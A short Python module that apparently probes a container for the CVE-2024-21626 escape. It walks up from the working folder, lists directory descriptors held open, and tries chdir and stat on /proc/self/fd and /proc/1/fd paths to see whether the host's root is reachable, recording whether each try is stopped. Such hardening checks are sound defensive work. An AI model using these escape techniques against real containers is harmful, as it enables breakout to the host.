"""Descriptors and working folders of the runtime that lead to the host's root (CVE-2024-21626)"""

import os
import stat

from tools import stopped

UP = "../" * 40


def attack():
    tried = {"the working folder": "inside" if os.getcwd().startswith("/") else ""}
    root = os.stat("/")
    for name, path in (("up from here", UP), ("up from /proc/self/cwd", f"/proc/self/cwd/{UP}")):
        there = os.stat(path)
        tried[name] = "our own root" if (there.st_dev, there.st_ino) == (root.st_dev, root.st_ino) else ""
    folders = []
    for descriptor in range(1024):
        try:
            if stat.S_ISDIR(os.fstat(descriptor).st_mode):
                folders.append(descriptor)
        except OSError:
            continue
    tried["folders held open"] = "" if folders else "none"
    for number in range(3, 16):
        tried[f"/proc/self/fd/{number}"] = stopped(os.chdir, f"/proc/self/fd/{number}")
        tried[f"/proc/1/fd/{number}"] = stopped(os.chdir, f"/proc/1/fd/{number}")
        tried[f"up from descriptor {number}"] = stopped(os.stat, f"/proc/self/fd/{number}/{UP}/etc")
    return tried
